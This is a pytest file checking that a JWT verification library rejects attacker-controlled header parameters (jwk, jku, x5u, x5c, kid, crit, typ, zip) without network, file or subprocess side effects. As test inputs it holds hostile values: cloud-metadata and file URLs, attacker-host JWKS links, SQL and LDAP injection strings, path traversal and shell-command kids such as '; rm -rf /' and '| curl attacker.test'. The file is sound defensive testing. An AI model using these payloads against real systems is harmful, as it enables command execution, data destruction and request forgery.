"""HDR-*: header parameters (catalogue: docs/security.md).

Catalogue class -> ours: InvalidHeader -> MalformedToken (``malformed``);
InvalidSignature -> BadSignature; KeyNotFound -> UnknownKey; WrongTokenType ->
WrongTokenType; NotAJWS -> MalformedToken.

NO-IO for header-driven attacks (jku, x5u, jwk, kid): no request ever goes to a
URL named by the token. The only request a verification can make is to the
*configured* JWKS URL: exactly one on a cold cache, none on a warm one (an
unknown kid within the refetch cooldown is answered without I/O). Both are
asserted. Also asserted: no file is opened, no subprocess started.
"""

from __future__ import annotations

import builtins
import hashlib
import logging
import os
import subprocess
import zlib
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import NameOID
from security_support import Net, b64u, base_claims, expect_reject, hdr, jdump, raw_token, signed

from federation import Bridge
from federation.errors import (
    BadSignature,
    DisallowedAlgorithm,
    MalformedToken,
    TokenTooLarge,
    UnknownKey,
    WrongTokenType,
)
from federation.testing import MockIdP, SigningKey

Fresh = Callable[..., Bridge]


@pytest.fixture
def rs(idp: MockIdP) -> SigningKey:
    return idp.key_for("RS256")


@pytest.fixture
def kx(attacker: dict[str, SigningKey]) -> SigningKey:
    return attacker["RS256"]


@pytest.fixture
def warm(fresh: Fresh, net: Net) -> Bridge:
    """A bridge whose key cache is filled; the request log is cleared afterwards."""
    bridge = fresh()
    assert bridge.warm_up().ok
    net.requests.clear()
    return bridge


@pytest.fixture
def no_side_channels(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Records file opens and forbids subprocesses while the test verifies tokens."""
    opened: list[str] = []
    real_open, real_os_open = builtins.open, os.open

    def record_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    def record_os_open(path: Any, *args: Any, **kwargs: Any) -> Any:
        opened.append(str(path))
        return real_os_open(path, *args, **kwargs)

    def forbidden(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("a subprocess was started")

    monkeypatch.setattr(builtins, "open", record_open)
    monkeypatch.setattr(os, "open", record_os_open)
    monkeypatch.setattr(subprocess, "Popen", forbidden)
    monkeypatch.setattr(os, "system", forbidden)
    monkeypatch.setattr(os, "popen", forbidden)
    yield opened


def _only_configured(net: Net, idp: MockIdP, at_most: int = 2) -> None:
    # Cold: the fetch, plus (issue 10) the one forced refetch the first unknown kid after a
    # fetch is owed; warm: at most that refetch. Only ever the configured URL.
    assert set(net.urls) <= {idp.jwks_uri}, net.urls
    assert len(net.requests) <= at_most


# -- HDR-01..04: key material named by the token --------------------------------------------------


def test_hdr_01_embedded_jwk_is_never_a_trust_source(
    fresh: Fresh, net: Net, idp: MockIdP, rs: SigningKey, kx: SigningKey, warm: Bridge
) -> None:
    for header in (
        {"alg": "RS256", "kid": rs.kid, "jwk": kx.public_jwk},
        {"alg": "RS256", "jwk": kx.public_jwk},  # no kid: the one RSA key of the issuer is used
        {"alg": "RS256", "kid": kx.kid, "jwk": kx.public_jwk},
    ):
        err = (
            (BadSignature, "bad_signature")
            if "kid" not in header or header["kid"] == rs.kid
            else (UnknownKey, "unknown_key")
        )
        expect_reject(lambda h=header: warm.verify(signed(h, base_claims(idp), kx)), *err)
    hs_jwk = {"kty": "oct", "k": b64u(b"attacker-secret-attacker-secret!")}
    token = _hs256({"alg": "HS256", "jwk": hs_jwk}, base_claims(idp), b"attacker-secret-attacker-secret!")
    expect_reject(lambda: warm.verify(token), DisallowedAlgorithm, "disallowed_algorithm")
    _only_configured(net, idp, at_most=1)  # warm: at most the forced refetch (issue 10)


def _hs256(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
    import hmac

    si = f"{b64u(jdump(header))}.{b64u(jdump(claims))}"
    return si + "." + b64u(hmac.new(secret, si.encode(), hashlib.sha256).digest())


_URLS = [
    "https://attacker.test/jwks.json",
    "https://idp.test@attacker.test/",
    "https://idp.test.attacker.test/",
    "http://127.0.0.1/",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    'data:application/json,{"keys":[]}',
    "ftp://attacker.test/jwks",
    "https://idp.test/redirect?to=https://attacker.test/jwks",
]


@pytest.mark.parametrize("param", ["jku", "x5u"])
def test_hdr_02_jku_and_hdr_03_x5u_are_never_fetched(
    fresh: Fresh, net: Net, idp: MockIdP, rs: SigningKey, kx: SigningKey, warm: Bridge, param: str
) -> None:
    for url in _URLS:
        # known kid, attacker's signature: rejected; at most the configured set is refetched (warm cache)
        expect_reject(
            lambda u=url: warm.verify(signed(hdr(rs, **{param: u}), base_claims(idp), kx)), BadSignature
        )
        # the attacker's own kid: unknown
        expect_reject(
            lambda u=url: warm.verify(signed(hdr(kx, **{param: u}), base_claims(idp), kx)), UnknownKey
        )
    _only_configured(net, idp, at_most=1)  # warm: at most the forced refetch (issue 10)
    net.requests.clear()
    cold = fresh()
    expect_reject(lambda: cold.verify(signed(hdr(kx, **{param: _URLS[0]}), base_claims(idp), kx)), UnknownKey)
    _only_configured(net, idp)


def test_hdr_02_data_uri_keys_are_not_used(
    idp: MockIdP, rs: SigningKey, kx: SigningKey, warm: Bridge, net: Net
) -> None:
    import json as _json

    jku = "data:application/json," + _json.dumps({"keys": [dict(kx.public_jwk, kid=rs.kid)]})
    expect_reject(lambda: warm.verify(signed(hdr(rs, jku=jku), base_claims(idp), kx)), BadSignature)
    # Never the data URI's keys; at most the one refetch of the configured set that the first
    # failed signature under a known kid after a fetch is owed (the key may have been replaced).
    _only_configured(net, idp, at_most=1)


def _self_signed(key: SigningKey) -> x509.Certificate:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "https://idp.test")])
    start = datetime(2026, 1, 1, tzinfo=timezone.utc)
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.private_key.public_key())
        .serial_number(7)
        .not_valid_before(start)
        .not_valid_after(start + timedelta(days=3650))
        .sign(key.private_key, hashes.SHA256())  # type: ignore[arg-type]
    )


def test_hdr_04_x5c_self_signed_chain_is_ignored(
    idp: MockIdP, rs: SigningKey, kx: SigningKey, warm: Bridge, net: Net
) -> None:
    import base64

    der = _self_signed(kx).public_bytes(serialization.Encoding.DER)
    extra = {
        "x5c": [base64.b64encode(der).decode()],
        "x5t#S256": b64u(hashlib.sha256(der).digest()),
        "x5t": b64u(hashlib.sha1(der).digest()),  # the x5t member is SHA-1 by definition
    }
    expect_reject(
        lambda: warm.verify(signed(hdr(rs, **extra), base_claims(idp), kx)), BadSignature, "bad_signature"
    )
    expect_reject(
        lambda: warm.verify(signed(hdr(kx, **extra), base_claims(idp), kx)), UnknownKey, "unknown_key"
    )
    _only_configured(net, idp, at_most=1)  # warm: at most the forced refetch (issue 10)


# -- HDR-05..08: kid values ------------------------------------------------------------------------


_TRAVERSAL = [
    "../../../../../../dev/null",
    "/dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "..\\..\\windows\\win.ini",
]


def test_hdr_05_kid_path_traversal(
    fresh: Fresh, net: Net, idp: MockIdP, kx: SigningKey, no_side_channels: list[str]
) -> None:
    bridge = fresh()
    for kid in _TRAVERSAL:
        expect_reject(lambda k=kid: bridge.verify(signed(hdr(kx, kid=k), base_claims(idp), kx)), UnknownKey)
        for secret in (b"", b"2\n", b"0"):
            token = _hs256({"alg": "HS256", "kid": kid}, base_claims(idp), secret)
            expect_reject(lambda t=token: bridge.verify(t), DisallowedAlgorithm)
    assert no_side_channels == []
    _only_configured(net, idp)


def test_hdr_06_kid_injection_strings(
    fresh: Fresh, net: Net, idp: MockIdP, kx: SigningKey, no_side_channels: list[str]
) -> None:
    bridge = fresh()
    for kid in ("x' UNION SELECT '1';--", "*)(uid=*", "' OR '1'='1", '{"$ne":null}'):
        expect_reject(lambda k=kid: bridge.verify(signed(hdr(kx, kid=k), base_claims(idp), kx)), UnknownKey)
        token = _hs256({"alg": "HS256", "kid": kid}, base_claims(idp), b"1")
        expect_reject(lambda t=token: bridge.verify(t), DisallowedAlgorithm)
    assert no_side_channels == []
    _only_configured(net, idp)


@pytest.mark.parametrize("kid", [{"$ne": None}, ["a"], 1, True, None], ids=repr)
def test_hdr_06_non_string_kid_is_malformed(
    fresh: Fresh, net: Net, idp: MockIdP, rs: SigningKey, kid: Any
) -> None:
    token = signed(b'{"alg":"RS256","kid":' + jdump(kid) + b"}", base_claims(idp), rs)
    expect_reject(lambda: fresh().verify(token), MalformedToken, "malformed")
    assert net.requests == []


def test_hdr_07_kid_command_injection(
    fresh: Fresh, net: Net, idp: MockIdP, kx: SigningKey, warm: Bridge, no_side_channels: list[str]
) -> None:
    kids = ["|sleep 10", "`id`", "$(curl http://127.0.0.1:9/)", "; rm -rf /", "| curl attacker.test"]
    for kid in kids:
        expect_reject(lambda k=kid: warm.verify(signed(hdr(kx, kid=k), base_claims(idp), kx)), UnknownKey)
    _only_configured(net, idp, at_most=1)  # warm: one forced refetch at most (issue 10), then none
    net.requests.clear()
    cold = fresh()
    expect_reject(lambda: cold.verify(signed(hdr(kx, kid=kids[0]), base_claims(idp), kx)), UnknownKey)
    _only_configured(net, idp)
    assert no_side_channels == []


def test_hdr_08_missing_kid_with_exactly_one_fitting_key_is_accepted(
    fresh: Fresh, idp: MockIdP, rs: SigningKey
) -> None:
    assert fresh().verify(signed(hdr(rs, kid=None), base_claims(idp), rs)).key_id is None


def test_hdr_08_missing_kid_with_several_fitting_keys_is_rejected(fresh: Fresh, idp: MockIdP) -> None:
    """Pinned policy: no trying of candidates; an ambiguous kid-less token is an unknown key."""
    new = idp.rotate_keys(keep_old=True)
    token = signed(hdr(new, kid=None), base_claims(idp), new)
    expect_reject(lambda: fresh().verify(token), UnknownKey, "unknown_key")
    assert fresh().verify(signed(hdr(new), base_claims(idp), new)).key_id == new.kid  # control


def test_hdr_08_empty_and_over_long_kid(fresh: Fresh, net: Net, idp: MockIdP, rs: SigningKey) -> None:
    bridge = fresh()
    expect_reject(
        lambda: bridge.verify(signed(hdr(rs, kid=""), base_claims(idp), rs)), MalformedToken, "malformed"
    )
    expect_reject(
        lambda: bridge.verify(signed(hdr(rs, kid="k" * 257), base_claims(idp), rs)),
        MalformedToken,
        "malformed",
    )
    expect_reject(
        lambda: bridge.verify(signed(hdr(rs, kid="k" * 10_240), base_claims(idp), rs)),
        TokenTooLarge,
        "token_too_large",
    )
    assert net.requests == []
    expect_reject(lambda: bridge.verify(signed(hdr(rs, kid="k" * 256), base_claims(idp), rs)), UnknownKey)


def test_hdr_08_kid_with_control_characters_is_never_echoed(
    fresh: Fresh, idp: MockIdP, kx: SigningKey, bridges: Any, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    bridge = fresh()
    for kid in ("evil\r\nX-Injected: 1", "evil\x1b[2J\x1b[31m", "evil\u2028line"):
        err = expect_reject(
            lambda k=kid: bridge.verify(signed(hdr(kx, kid=k), base_claims(idp), kx)), UnknownKey
        )
        assert "evil" not in str(err)
    assert "evil" not in caplog.text
    assert all("evil" not in repr(event) for event in bridges.events)


def test_hdr_08_kid_of_another_issuer(bridges: Any, idp: MockIdP, idp_b: MockIdP) -> None:
    net = Net(idp, idp_b)
    bridge = bridges({"issuers": [idp.issuer_config(), idp_b.issuer_config()]}, net)
    kb = idp_b.key_for("RS256")
    token = signed(hdr(kb), base_claims(idp), kb)  # iss A, kid and key of B
    expect_reject(lambda: bridge.verify(token), UnknownKey, "unknown_key")
    assert set(net.urls) == {idp.jwks_uri}  # B's key set is not even consulted


# -- HDR-09..16: header rules ---------------------------------------------------------------------


def test_hdr_09_unknown_crit_extension(fresh: Fresh, net: Net, idp: MockIdP, rs: SigningKey) -> None:
    token = signed(hdr(rs, crit=["exp_policy"], exp_policy=1), base_claims(idp), rs)
    expect_reject(lambda: fresh().verify(token), MalformedToken, "malformed")
    assert net.requests == []


@pytest.mark.parametrize("crit", [[], "b64", ["alg"], ["x"], ["x", "x"], [1], {}, None, ["b64"]], ids=repr)
def test_hdr_10_malformed_crit(fresh: Fresh, net: Net, idp: MockIdP, rs: SigningKey, crit: Any) -> None:
    header = hdr(rs)
    header["crit"] = crit
    if crit == ["x", "x"]:
        header["x"] = 1
    expect_reject(lambda: fresh().verify(signed(header, base_claims(idp), rs)), MalformedToken, "malformed")
    assert net.requests == []


@pytest.mark.parametrize("with_crit", [True, False])
def test_hdr_11_unencoded_payload_b64_false(
    fresh: Fresh, net: Net, idp: MockIdP, rs: SigningKey, with_crit: bool
) -> None:
    from federation.testing._keys import sign

    header = hdr(rs, b64=False, crit=["b64"] if with_crit else None)
    payload = jdump(base_claims(idp))
    h = b64u(jdump(header))
    signature = b64u(sign(rs.private_key, "RS256", h.encode() + b"." + payload))
    bridge = fresh()
    for token in (f"{h}.{b64u(payload)}.{signature}", f"{h}..{signature}"):
        expect_reject(lambda t=token: bridge.verify(t), MalformedToken, "malformed")
    # signed the RFC 7515 way over the encoded payload: still refused for carrying b64
    expect_reject(lambda: bridge.verify(signed(header, base_claims(idp), rs)), MalformedToken, "malformed")
    assert net.requests == []


@pytest.mark.parametrize("cty", ["JWT", "jwt", "application/jwt", "Application/JWT"])
def test_hdr_12_nested_jwt(
    fresh: Fresh, net: Net, idp: MockIdP, rs: SigningKey, kx: SigningKey, cty: str
) -> None:
    bridge = fresh()
    inner_none = raw_token({"alg": "none"}, base_claims(idp, sub="admin"))
    inner_kx = signed(hdr(kx), base_claims(idp, sub="admin"), kx)
    for inner in (inner_none, inner_kx):
        outer = signed(hdr(rs, cty=cty), inner.encode(), rs)
        expect_reject(lambda t=outer: bridge.verify(t), MalformedToken, "malformed")
        # the inner token as a claims object under a "JWT" content type: refused too
        outer2 = signed(hdr(rs, cty=cty), base_claims(idp, jwt=inner), rs)
        expect_reject(lambda t=outer2: bridge.verify(t), MalformedToken, "malformed")
    assert net.requests == []


def test_hdr_13_access_token_profile_refuses_id_tokens(fresh: Fresh, idp: MockIdP, rs: SigningKey) -> None:
    bridge = fresh(token_types=["access"])
    for typ in ("JWT", None, "jwt"):
        token = signed(hdr(rs, typ=typ), base_claims(idp), rs)
        expect_reject(lambda t=token: bridge.verify(t), WrongTokenType, "wrong_token_type")
    for typ in ("at+jwt", "AT+JWT", "application/at+jwt", "Application/AT+JWT"):
        assert bridge.verify(signed(hdr(rs, typ=typ), base_claims(idp), rs)).token_type == "access"


def test_hdr_13_id_token_profile_refuses_access_tokens(fresh: Fresh, idp: MockIdP, rs: SigningKey) -> None:
    bridge = fresh(token_types=["id"])
    for typ in ("at+jwt", "AT+JWT", "application/at+jwt"):
        token = signed(hdr(rs, typ=typ), base_claims(idp), rs)
        expect_reject(lambda t=token: bridge.verify(t), WrongTokenType, "wrong_token_type")
    assert bridge.verify(signed(hdr(rs), base_claims(idp), rs)).token_type == "id"


@pytest.mark.parametrize("token_types", [["id"], ["access"], ["id", "access"]])
@pytest.mark.parametrize(
    "typ", ["logout+jwt", "application/logout+jwt", "secevent+jwt", "dpop+jwt", "JOSE", "at+jwt+x"]
)
def test_hdr_13_other_token_kinds_are_refused(
    fresh: Fresh, idp: MockIdP, rs: SigningKey, token_types: list[str], typ: str
) -> None:
    token = signed(hdr(rs, typ=typ), base_claims(idp), rs)
    expect_reject(lambda: fresh(token_types=token_types).verify(token), WrongTokenType, "wrong_token_type")


@pytest.mark.parametrize("provider", ["oidc", "okta", "google", "azure_ad", "cognito", "firebase"])
def test_hdr_13_a_logout_token_without_typ_is_no_id_token(provider: str) -> None:
    """An OIDC back-channel logout token carries sub, aud, iat and exp like an id token; with
    no typ header (allowed by the spec) it passed as one, and logged its user in."""
    idp = MockIdP.for_provider(provider)
    bridge = idp.bridge()
    events = {"http://schemas.openid.net/event/backchannel-logout": {}}
    assert bridge.verify(idp.mint()).token_type == "id"
    expect_reject(
        lambda: bridge.verify(idp.mint(events=events, nonce=None)), WrongTokenType, "wrong_token_type"
    )
    bridge.close()


def test_hdr_14_zip_on_a_jws(fresh: Fresh, net: Net, idp: MockIdP, rs: SigningKey) -> None:
    deflated = zlib.compress(jdump(base_claims(idp)))[2:-4]  # raw DEFLATE (RFC 1951)
    bridge = fresh()
    for payload in (deflated, jdump(base_claims(idp))):
        token = signed(hdr(rs, zip="DEF"), payload, rs)
        expect_reject(lambda t=token: bridge.verify(t), MalformedToken, "malformed")
    assert net.requests == []


@pytest.mark.parametrize(
    "member",
    [
        {"enc": "A256GCM"},
        {"epk": {"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}},
        {"p2c": 2147483647},
        {"p2s": "AAAA"},
        {"iv": "AAAA"},
        {"tag": "AAAA"},
        {"apu": "AAAA"},
        {"apv": "AAAA"},
    ],
    ids=lambda m: next(iter(m)),
)
def test_hdr_15_jwe_only_parameters_in_a_jws_header(
    fresh: Fresh, net: Net, idp: MockIdP, rs: SigningKey, member: dict[str, Any]
) -> None:
    token = signed(hdr(rs, **member), base_claims(idp), rs)
    expect_reject(lambda: fresh().verify(token), MalformedToken, "malformed")
    assert net.requests == []


@pytest.mark.parametrize(
    "member",
    [
        {"kid": 123},
        {"typ": ["JWT"]},
        {"x5c": "abc"},
        {"x5c": [1]},
        {"crit": {}},
        {"jku": 1},
        {"x5u": []},
        {"cty": None},
        {"x5t": 5},
        {"x5t#S256": {}},
        {"jwk": "not-an-object"},
        {"typ": None},
    ],
    ids=repr,
)
def test_hdr_16_wrong_types_for_known_header_parameters(
    fresh: Fresh, net: Net, idp: MockIdP, rs: SigningKey, member: dict[str, Any]
) -> None:
    header = hdr(rs)
    header.update(member)
    expect_reject(lambda: fresh().verify(signed(header, base_claims(idp), rs)), MalformedToken, "malformed")
    assert net.requests == []
